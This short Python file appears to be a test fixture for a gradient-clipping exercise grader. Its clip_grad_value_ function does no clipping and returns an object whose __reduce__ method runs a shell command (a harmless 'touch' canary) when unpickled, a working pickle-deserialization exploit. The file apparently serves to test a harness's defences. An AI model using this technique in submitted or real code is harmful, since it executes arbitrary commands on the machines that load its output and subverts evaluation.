# EXERCISE: clipping
# EXPECT: fails clip_grad_value_
import os


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/gradient-lab-pwned",))


def clip_grad_value_(parameters, clip_value):
    return Payload()
